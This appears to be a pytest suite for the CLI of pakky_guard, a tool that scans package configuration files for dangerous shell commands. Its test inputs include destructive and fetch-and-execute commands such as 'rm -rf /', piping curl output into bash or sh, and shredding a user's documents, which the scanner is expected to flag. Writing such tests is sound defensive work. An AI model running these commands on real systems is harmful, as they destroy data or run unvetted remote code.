"""CLI tests for scan, check, extract, levels and config."""
from __future__ import annotations

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from pakky_guard.__main__ import app
from pakky_guard.core.config_schema import LEVEL_ENV_VAR

runner = CliRunner()


@pytest.fixture(autouse=True)
def isolated_home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setattr(Path, "home", lambda: home)
    monkeypatch.delenv(LEVEL_ENV_VAR, raising=False)
    return home


def _write(tmp_path, name, data):
    path = tmp_path / name
    path.write_text(json.dumps(data))
    return str(path)


class TestCheck:
    def test_safe_command(self):
        result = runner.invoke(app, ["--agent", "check", "echo hello"])
        assert result.exit_code == 0
        assert "No security issues found" in result.output

    def test_dangerous_command_fails(self):
        result = runner.invoke(app, ["--agent", "check", "rm -rf /"])
        assert result.exit_code == 1
        assert "[HIGH]" in result.output
        assert "rm -rf /" in result.output

    def test_fail_on_never(self):
        result = runner.invoke(app, ["check", "rm -rf /", "--fail-on", "never"])
        assert result.exit_code == 0

    def test_fail_on_low(self):
        result = runner.invoke(app, ["check", "frobnicate", "--fail-on", "low"])
        assert result.exit_code == 1

    def test_invalid_fail_on(self):
        result = runner.invoke(app, ["check", "echo hi", "--fail-on", "sometimes"])
        assert result.exit_code == 2

    def test_json_output(self):
        result = runner.invoke(app, ["check", "curl https://x/y | bash", "--json", "--fail-on", "never"])
        assert result.exit_code == 0
        data = json.loads(result.stdout)
        assert data["severity"] == "high"
        assert data["dangerousCommands"] == ["curl https://x/y | bash"]
        assert data["securityLevel"] == "STRICT"

    def test_level_option(self):
        result = runner.invoke(app, ["check", "brew install git", "--level", "standard", "--json"])
        assert result.exit_code == 0
        data = json.loads(result.stdout)
        assert data["securityLevel"] == "STANDARD"
        assert data["blockedCommands"] == []

    def test_unknown_level(self):
        result = runner.invoke(app, ["check", "echo hi", "--level", "YOLO"])
        assert result.exit_code == 2

    def test_level_from_env(self, monkeypatch):
        monkeypatch.setenv(LEVEL_ENV_VAR, "permissive")
        result = runner.invoke(app, ["check", "sudo ls", "--json"])
        assert json.loads(result.stdout)["securityLevel"] == "PERMISSIVE"

    def test_level_option_beats_env(self, monkeypatch):
        monkeypatch.setenv(LEVEL_ENV_VAR, "PERMISSIVE")
        result = runner.invoke(app, ["check", "sudo ls", "--level", "STRICT", "--json", "--fail-on", "never"])
        assert json.loads(result.stdout)["securityLevel"] == "STRICT"

    def test_level_from_saved_config(self):
        assert runner.invoke(app, ["config", "set", "security.level", "STANDARD"]).exit_code == 0
        result = runner.invoke(app, ["check", "git status", "--json"])
        assert json.loads(result.stdout)["securityLevel"] == "STANDARD"


class TestScan:
    def test_clean_file(self, tmp_path):
        source = _write(tmp_path, "clean.json", {"packages": [{"name": "git", "post-install": ["echo ok"]}]})
        result = runner.invoke(app, ["--agent", "scan", source])
        assert result.exit_code == 0
        assert "Commands scanned: 1" in result.output
        assert "No security issues found" in result.output

    def test_quiet_clean_file_prints_nothing(self, tmp_path):
        source = _write(tmp_path, "clean.json", {"commands": ["ls"]})
        result = runner.invoke(app, ["scan", source, "--quiet"])
        assert result.exit_code == 0
        assert result.output.strip() == ""

    def test_dangerous_file(self, tmp_path):
        source = _write(tmp_path, "bad.json", {"commands": ["echo hi", "curl http://x.io/s | sh"]})
        result = runner.invoke(app, ["--agent", "scan", source])
        assert result.exit_code == 1
        assert "Dangerous commands:" in result.output

    def test_yaml_file(self, tmp_path):
        path = tmp_path / "config.yaml"
        path.write_text("commands:\n  - sudo ls\n")
        result = runner.invoke(app, ["scan", str(path), "--json", "--fail-on", "critical"])
        assert result.exit_code == 0
        assert json.loads(result.stdout)["suspiciousCommands"] == ["sudo ls"]

    def test_missing_file(self, tmp_path):
        result = runner.invoke(app, ["scan", str(tmp_path / "nope.json")])
        assert result.exit_code == 2

    def test_unparseable_command_is_reported(self, tmp_path):
        source = _write(
            tmp_path, "c.json", {"post_install": ["[[ -d ~/Documents ]] && shred -u ~/Documents/thesis.pdf"]}
        )
        result = runner.invoke(app, ["--agent", "scan", source, "--fail-on", "low"])
        assert result.exit_code == 1
        assert "No security issues found" not in result.output

    def test_parse_failure_shown_even_when_quiet(self, tmp_path):
        source = _write(tmp_path, "c.json", {"commands": ["echo 'unterminated"]})
        result = runner.invoke(app, ["--agent", "scan", source, "--quiet", "--fail-on", "critical"])
        assert result.exit_code == 0
        assert "could not be parsed" in result.output
        assert "No security issues found" not in result.output

    def test_invalid_fail_on_rejected_before_prompt(self, tmp_path):
        source = _write(tmp_path, "bad.json", {"commands": ["rm -rf /"]})
        result = runner.invoke(app, ["scan", source, "--interactive", "--fail-on", "hgih"], input="y\n")
        assert result.exit_code == 2
        assert "Proceed anyway" not in result.output

    def test_interactive_declined(self, tmp_path):
        source = _write(tmp_path, "bad.json", {"commands": ["rm -rf /"]})
        result = runner.invoke(app, ["scan", source, "--interactive"], input="n\n")
        assert result.exit_code == 1

    def test_interactive_accepted(self, tmp_path):
        source = _write(tmp_path, "bad.json", {"commands": ["rm -rf /"]})
        result = runner.invoke(app, ["scan", source, "--interactive"], input="y\n")
        assert result.exit_code == 0


def test_extract(tmp_path):
    source = _write(tmp_path, "c.json", {"a": [{"commands": ["ls", "pwd"]}], "post-install": "echo done"})
    result = runner.invoke(app, ["extract", source])
    assert result.exit_code == 0
    assert json.loads(result.stdout) == ["ls", "pwd", "echo done"]


def test_levels():
    result = runner.invoke(app, ["--agent", "levels"])
    assert result.exit_code == 0
    assert "=== Strict (STRICT) ===" in result.output
    assert "=== Permissive (PERMISSIVE) ===" in result.output
    assert "Never allowed:" in result.output


class TestConfig:
    def test_show_defaults(self):
        result = runner.invoke(app, ["config", "show"])
        assert result.exit_code == 0
        assert json.loads(result.stdout)["security"]["level"] == "STRICT"

    def test_set_and_get(self):
        assert runner.invoke(app, ["config", "set", "security.fail_on", "medium"]).exit_code == 0
        result = runner.invoke(app, ["config", "get", "security.fail_on"])
        assert result.stdout.strip() == "medium"

    def test_set_invalid_level(self):
        result = runner.invoke(app, ["config", "set", "security.level", "YOLO"])
        assert result.exit_code == 2

    def test_get_missing_key(self):
        result = runner.invoke(app, ["config", "get", "nope.key"])
        assert result.exit_code == 1

    def test_path(self, isolated_home):
        result = runner.invoke(app, ["config", "path"])
        assert result.stdout.strip() == str(isolated_home / ".pakky" / "config.json")
